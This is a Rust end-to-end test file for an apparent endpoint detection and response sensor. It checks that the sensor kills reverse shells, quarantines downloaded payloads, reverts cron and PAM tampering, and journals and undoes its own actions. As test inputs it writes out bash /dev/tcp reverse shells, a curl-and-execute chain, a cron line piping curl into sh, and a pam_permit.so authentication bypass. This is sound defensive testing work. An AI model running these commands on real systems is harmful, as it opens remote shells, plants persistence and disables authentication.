//! Autonomous response on the real kernel: what the shipped rules and policy contain, how it
//! is journaled, and how it is undone.
#![allow(
    clippy::expect_used,
    clippy::unwrap_used,
    reason = "a test or benchmark stops loudly at the first thing that fails"
)]

use std::{
    io::{Read as _, Write as _},
    net::TcpListener,
    os::unix::fs::{MetadataExt, PermissionsExt},
    process::{Command, Stdio},
    time::{Duration, Instant},
};

use serde_json::Value;
use vigil_tests::{HttpServer, Sensor, kernel_tests_enabled};

fn run(script: &str) -> (u32, std::process::ExitStatus) {
    let child = Command::new("/bin/sh")
        .arg("-c")
        .arg(script)
        .stdin(Stdio::null())
        .spawn()
        .expect("spawn sh");
    let pid = child.id();
    let out = child.wait_with_output().expect("wait");
    (pid, out.status)
}

/// Killed by SIGKILL: directly (sh exec'd the payload) or as sh's exit status 137.
fn killed(status: std::process::ExitStatus) -> bool {
    std::os::unix::process::ExitStatusExt::signal(&status) == Some(9) || status.code() == Some(137)
}

fn actions(s: &Sensor) -> Vec<Value> {
    s.actions()
}

fn tmp() -> tempfile::TempDir {
    let d = tempfile::Builder::new()
        .prefix("vigil-e2e-r-")
        .tempdir()
        .expect("tempdir");
    std::fs::set_permissions(d.path(), std::fs::Permissions::from_mode(0o755)).expect("chmod");
    d
}

/// A loopback listener that records when its one connection closes.
fn listener(say: Option<&'static [u8]>) -> (u16, std::thread::JoinHandle<Duration>) {
    let l = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = l.local_addr().expect("addr").port();
    let h = std::thread::spawn(move || {
        let (mut c, _) = l.accept().expect("accept");
        let t = Instant::now();
        if let Some(b) = say {
            let _ = c.write_all(b);
        }
        let _ = c.set_read_timeout(Some(Duration::from_secs(20)));
        let mut buf = [0u8; 256];
        while matches!(c.read(&mut buf), Ok(n) if n > 0) {}
        t.elapsed()
    });
    (port, h)
}

#[test]
fn a_reverse_shell_is_killed_and_its_connection_closed() {
    if !kernel_tests_enabled("a_reverse_shell_is_killed_and_its_connection_closed") {
        return;
    }
    let _one = vigil_tests::one_at_a_time();
    let s = Sensor::start_containing(&[]).expect("sensor");
    let (port, closed) = listener(None);
    // Nothing is sent: only a kill ends this shell before the listener's 20 s timeout.
    let (pid, status) = run(&format!(
        "bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1'"
    ));
    let open_for = closed.join().expect("listener");
    assert!(
        open_for < Duration::from_secs(10),
        "the connection stayed open {open_for:?}"
    );
    assert!(!status.success(), "the shell was killed: {status}");
    let kill = s.wait_action("kill of the reverse shell", |a| {
        a["action"] == "kill" && a["status"] == "done"
    });
    assert_eq!(kill["undo"]["how"], "impossible");
    assert!(
        kill["reason"]
            .as_str()
            .is_some_and(|r| r.contains("vigil-reverse-shell"))
    );
    assert!(
        kill["policy_clause"]
            .as_str()
            .is_some_and(|c| c.contains("without_approval"))
    );
    assert!(!kill["evidence"].as_array().is_none_or(Vec::is_empty));
    let _ = pid;
    // Undoing a kill is refused, and the refusal is journaled.
    let id = kill["id"].as_str().expect("id");
    let out = s.ctl(&["undo", id]);
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("impossible"));
    assert!(
        actions(&s)
            .iter()
            .any(|a| a["settles"] == id && a["status"] == "failed")
    );
}

/// A payload served over loopback HTTP, downloaded, made executable and run: the shipped
/// rules kill it and quarantine it; from then on the kernel kills it at exec, before its
/// first instruction, even after a restart of the sensor.
#[test]
fn a_quarantined_payload_is_killed_in_the_kernel_before_it_runs_even_after_a_restart() {
    if !kernel_tests_enabled("a_quarantined_payload_is_killed_in_the_kernel") {
        return;
    }
    let _one = vigil_tests::one_at_a_time();
    let s = Sensor::start_containing(&[]).expect("sensor");
    let d = tmp();
    let marker = d.path().join("marker");
    let srv = d.path().join("srv");
    std::fs::create_dir(&srv).expect("mkdir");
    let body = format!("#!/bin/sh\necho ran > {}\nsleep 10\n", marker.display());
    std::fs::write(srv.join("p.sh"), &body).expect("write");
    let http = HttpServer::serve(&srv.to_string_lossy(), &[]);
    let port = http.port;
    let payload = d.path().join("payload");
    let p = payload.display();
    run(&format!(
        "curl -s -o {p} http://127.0.0.1:{port}/p.sh && chmod +x {p} && {p}"
    ));
    drop(http);
    let q = s.wait_action("quarantine of the payload", |a| {
        a["action"] == "quarantine" && a["status"] == "done"
    });
    assert!(!payload.exists(), "the payload left its place");
    let vault = q["undo"]["vault"].as_str().expect("vault path").to_owned();
    assert_eq!(
        std::fs::metadata(&vault)
            .expect("vault copy")
            .permissions()
            .mode()
            & 0o777,
        0,
        "the vault copy is inaccessible"
    );
    assert_eq!(q["undo"]["meta"]["size"], body.len());

    // The payload is a script: its interpreter must not be what got blocked.
    let (_, status) = run("true");
    assert!(status.success(), "/bin/sh itself was blocked: {status}");

    // The same payload dropped again at the same path never runs a single instruction.
    let _ = std::fs::remove_file(&marker);
    std::fs::write(&payload, &body).expect("re-drop");
    std::fs::set_permissions(&payload, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    let (_, status) = run(&p.to_string());
    assert!(killed(status), "killed by SIGKILL: {status}");
    std::thread::sleep(Duration::from_millis(300));
    assert!(!marker.exists(), "the blocked payload ran");
    s.wait_alert("for the blocked exec", |a| {
        a["rule"]["id"] == "vigil-exec-blocked"
    });

    // A restart re-arms the block from the journal; nothing of the journal is lost.
    let before = actions(&s).len();
    let s = s.restart(&[]).expect("restart");
    assert_eq!(actions(&s).len(), before);
    assert!(s.status().expect("status")["actions"]["restored"].as_u64() >= Some(1));
    let (_, status) = run(&p.to_string());
    assert!(killed(status), "still killed after a restart: {status}");
    assert!(!marker.exists(), "the blocked payload ran after a restart");

    // A copy under another name is a new inode and path: it is caught by its hash, and
    // killed by the response (after the fact, in userspace).
    let copy = d.path().join("renamed-copy");
    std::fs::write(&copy, &body).expect("copy");
    std::fs::set_permissions(&copy, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    let (_, status) = run(&copy.display().to_string());
    assert!(killed(status), "the copy was killed: {status}");
    let copy_path = copy.display().to_string();
    s.wait_alert("for the copy's hash", |a| {
        a["rule"]["id"] == "vigil-exec-blocked"
            && a["evidence"][0]["exe"].as_str() == Some(copy_path.as_str())
    });

    // Undo: the file comes back, identical, and runs again.
    let _ = std::fs::remove_file(&payload);
    let id = q["id"].as_str().expect("id");
    let out = s.ctl(&["undo", id]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(std::fs::read_to_string(&payload).expect("restored"), body);
}

#[test]
fn quarantine_then_undo_gives_back_content_owner_and_mode() {
    if !kernel_tests_enabled("quarantine_then_undo_gives_back_content_owner_and_mode") {
        return;
    }
    let _one = vigil_tests::one_at_a_time();
    let d = tmp();
    // Quarantine needs a person's approval under this policy.
    let policy = d.path().join("approve.toml");
    std::fs::write(
        &policy,
        sensor_userspace_policy().replace("\"quarantine\", ", ""),
    )
    .expect("write");
    let s = Sensor::start_containing(&["--policy", &policy.to_string_lossy()]).expect("sensor");
    let f = d.path().join("suid-true");
    std::fs::copy("/bin/true", &f).expect("copy");
    std::os::unix::fs::chown(&f, Some(4321), Some(4322)).expect("chown");
    let before = std::fs::read(&f).expect("read");
    // Setting the setuid bit: contained, but quarantine waits for approval.
    run(&format!("chmod 4750 {}", f.display()));
    let pending = s.wait_action("pending quarantine", |a| {
        a["action"] == "quarantine" && a["status"] == "pending"
    });
    assert!(f.exists(), "nothing happens before approval");
    let incident = pending["incident"].as_str().expect("incident");
    let out = s.ctl(&["approve", incident]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let done = s.wait_action("approved quarantine", |a| {
        a["action"] == "quarantine" && a["status"] == "done" && a["settles"] == pending["id"]
    });
    assert!(!f.exists());
    assert!(done["requested_by"].is_string());
    let out = s.ctl(&["undo", done["id"].as_str().expect("id")]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let m = std::fs::metadata(&f).expect("restored");
    assert_eq!(
        std::fs::read(&f).expect("read"),
        before,
        "identical content"
    );
    assert_eq!((m.uid(), m.gid()), (4321, 4322), "owner");
    assert_eq!(m.mode() & 0o7777, 0o4750, "mode, setuid bit included");
}

#[test]
fn persistence_remediation_removes_only_the_incidents_line() {
    if !kernel_tests_enabled("persistence_remediation_removes_only_the_incidents_line") {
        return;
    }
    let _one = vigil_tests::one_at_a_time();
    let cron = std::path::PathBuf::from(format!("/etc/cron.d/vigil-e2e-{}", std::process::id()));
    struct Cleanup(std::path::PathBuf);
    impl Drop for Cleanup {
        fn drop(&mut self) {
            let _ = std::fs::remove_file(&self.0);
        }
    }
    let _cleanup = Cleanup(cron.clone());
    std::fs::create_dir_all("/etc/cron.d").expect("cron.d");
    let legit = "# legitimate jobs\n17 3 * * * root /usr/local/bin/backup\n";
    std::fs::write(&cron, legit).expect("write");
    // The sensor starts after the legitimate content exists: it is in the baseline.
    let s = Sensor::start_containing(&[]).expect("sensor");
    run(&format!(
        "echo '* * * * * root curl -s http://203.0.113.9/x | sh' >> {}",
        cron.display()
    ));
    let pending = s.wait_action("remediation", |a| a["action"] == "remediate");
    if pending["status"] == "pending" {
        let out = s.ctl(&["approve", pending["incident"].as_str().expect("incident")]);
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    let done = s.wait_action("remediation done", |a| {
        a["action"] == "remediate" && a["status"] == "done"
    });
    assert_eq!(std::fs::read_to_string(&cron).expect("read"), legit);
    assert_eq!(done["undo"]["how"], "put_back");
    let out = s.ctl(&["undo", done["id"].as_str().expect("id")]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        std::fs::read_to_string(&cron).expect("read"),
        format!("{legit}* * * * * root curl -s http://203.0.113.9/x | sh\n"),
        "the undo puts the removed line back"
    );
}

/// A PAM service file of the test's own (no program uses it), written before the sensor
/// starts so that it is in the baseline; removed on drop.
struct PamService(std::path::PathBuf);

impl PamService {
    const LEGIT: &str = "auth required pam_unix.so\naccount required pam_unix.so\n";

    fn new(tag: &str) -> Self {
        let path =
            std::path::PathBuf::from(format!("/etc/pam.d/vigil-e2e-{tag}{}", std::process::id()));
        std::fs::create_dir_all("/etc/pam.d").expect("pam.d");
        std::fs::write(&path, Self::LEGIT).expect("write the PAM service file");
        Self(path)
    }
}

impl std::ops::Deref for PamService {
    type Target = std::path::Path;
    fn deref(&self) -> &std::path::Path {
        &self.0
    }
}

impl AsRef<std::path::Path> for PamService {
    fn as_ref(&self) -> &std::path::Path {
        &self.0
    }
}

impl Drop for PamService {
    fn drop(&mut self) {
        let _ = std::fs::remove_file(&self.0);
    }
}

#[test]
fn a_pam_line_changed_in_place_is_reverted_at_once_and_the_undo_gives_it_back() {
    if !kernel_tests_enabled(
        "a_pam_line_changed_in_place_is_reverted_at_once_and_the_undo_gives_it_back",
    ) {
        return;
    }
    let _one = vigil_tests::one_at_a_time();
    let (pam, legit) = (PamService::new("a"), PamService::LEGIT);
    let s = Sensor::start_containing(&[]).expect("sensor");
    // sed -i writes its copy beside the file and renames it over: the check becomes a pass.
    let (_, status) = run(&format!(
        "sed -i 's/auth required pam_unix.so/auth sufficient pam_permit.so/' {}",
        pam.display()
    ));
    let done = s.wait_action("the PAM stack remediated", |a| {
        a["action"] == "remediate" && a["status"] == "done"
    });
    let now = std::fs::read_to_string(&pam).unwrap_or_default();
    assert_eq!(
        now, legit,
        "the stack is what it was ({status}; record {done})"
    );
    // The undo gives back what the incident left, as it was.
    let undo = done["undo"]["how"].as_str().unwrap_or_default().to_owned();
    assert!(
        undo == "write_back" || undo == "restore",
        "an undo that gives the file back: {done}"
    );
    let out = s.ctl(&["undo", done["id"].as_str().expect("id")]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let after_undo = std::fs::read_to_string(&pam).unwrap_or_default();
    if undo == "write_back" {
        assert!(
            after_undo.contains("pam_permit.so"),
            "the undo writes back the changed stack: {after_undo:?}"
        );
    }
}

#[test]
fn an_undo_made_while_the_writer_still_runs_is_not_redone_by_the_second_pass() {
    if !kernel_tests_enabled(
        "an_undo_made_while_the_writer_still_runs_is_not_redone_by_the_second_pass",
    ) {
        return;
    }
    let _one = vigil_tests::one_at_a_time();
    let (pam, legit) = (PamService::new("b"), PamService::LEGIT);
    let s = Sensor::start_containing(&[]).expect("sensor");
    // The writer puts pam_permit in place the way `sed -i` does (a copy renamed over the
    // file), opens the file for writing once more after the sensor has reverted it, then
    // stays alive: the remediation's second pass waits for it.
    let linger = Duration::from_secs(4);
    let writer = Command::new("python3")
        .arg("-c")
        .arg(
            "import os, sys, time\n\
             p = sys.argv[1]; t = os.path.join(os.path.dirname(p), '.v' + os.path.basename(p))\n\
             s = open(p).read().replace('auth required pam_unix.so', 'auth sufficient pam_permit.so')\n\
             f = open(t, 'w'); f.write(s); f.close(); os.rename(t, p)\n\
             time.sleep(0.5); open(p, 'a').close()\n\
             time.sleep(float(sys.argv[2]))\n",
        )
        .arg(&*pam)
        .arg(linger.as_secs_f64().to_string())
        .spawn()
        .expect("spawn python3");
    let mut writer = ChildGuard(writer);
    let started = Instant::now();
    let done = s.wait_action("the PAM stack remediated", |a| {
        a["action"] == "remediate"
            && a["status"] == "done"
            && (a["undo"]["how"] == "write_back" || a["undo"]["how"] == "restore")
    });
    assert_eq!(
        std::fs::read_to_string(&pam).unwrap_or_default(),
        legit,
        "the stack is what it was: {done}"
    );
    let still_writing = writer.0.try_wait().expect("try_wait").is_none();
    let out = s.ctl(&["undo", done["id"].as_str().expect("id")]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // The sensor stops at once: every remediation still waiting for its writer has its
    // second pass now. What the operator gave back stays.
    let mut s = s;
    s.stop().expect("stop the sensor");
    let now = std::fs::read_to_string(&pam).unwrap_or_default();
    assert!(
        now.contains("pam_permit.so"),
        "the undone remediation stays undone (writer alive at the undo: {still_writing}, \
         {:?} after it started): {now:?}",
        started.elapsed(),
    );
}

/// Kills the child when the test stops early.
struct ChildGuard(std::process::Child);
impl Drop for ChildGuard {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}
#[test]
fn observe_mode_acts_on_nothing_and_records_what_it_would_do() {
    if !kernel_tests_enabled("observe_mode_acts_on_nothing_and_records_what_it_would_do") {
        return;
    }
    let _one = vigil_tests::one_at_a_time();
    let d = tmp();
    let policy = d.path().join("observe.toml");
    std::fs::write(
        &policy,
        sensor_userspace_policy().replace("mode = \"contain\"", "mode = \"observe\""),
    )
    .expect("write");
    let s = Sensor::start_containing(&["--policy", &policy.to_string_lossy()]).expect("sensor");
    let (port, closed) = listener(Some(b"sleep 1; exit\n"));
    let (_, status) = run(&format!(
        "bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1'"
    ));
    closed.join().expect("listener");
    assert!(status.success(), "the shell ran to its own end: {status}");
    let a = s.wait_action("observed kill", |a| a["action"] == "kill");
    assert_eq!(a["status"], "observed");
    assert!(
        a["detail"]
            .as_str()
            .is_some_and(|d| d.starts_with("would kill"))
    );
    assert!(
        actions(&s).iter().all(|a| a["status"] == "observed"),
        "observe mode did something"
    );
}

fn sensor_userspace_policy() -> String {
    std::fs::read_to_string(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../deploy/policy.toml"),
    )
    .expect("deploy/policy.toml")
}

#[test]
fn a_protected_process_is_never_killed() {
    if !kernel_tests_enabled("a_protected_process_is_never_killed") {
        return;
    }
    let _one = vigil_tests::one_at_a_time();
    let d = tmp();
    let bin = d.path().join("p");
    std::fs::create_dir(&bin).expect("mkdir");
    let bash = bin.join("bash");
    std::fs::copy("/bin/bash", &bash).expect("copy bash");
    let policy = d.path().join("protect.toml");
    std::fs::write(
        &policy,
        sensor_userspace_policy().replace(
            "processes = [\"/usr/lib/systemd/systemd\", \"/usr/sbin/sshd\"]",
            &format!("processes = [\"{}\"]", bash.display()),
        ),
    )
    .expect("write");
    let s = Sensor::start_containing(&["--policy", &policy.to_string_lossy()]).expect("sensor");
    let (port, closed) = listener(Some(b"sleep 1; exit\n"));
    let b = bash.display();
    let (_, status) = run(&format!(
        "{b} -c '{b} -i >& /dev/tcp/127.0.0.1/{port} 0>&1'"
    ));
    closed.join().expect("listener");
    assert!(
        status.success(),
        "the protected shell was not killed: {status}"
    );
    let a = s.wait_action("refused kill", |a| a["action"] == "kill");
    assert_eq!(a["status"], "refused");
    assert!(
        a["detail"]
            .as_str()
            .is_some_and(|d| d.contains("protected"))
    );
}
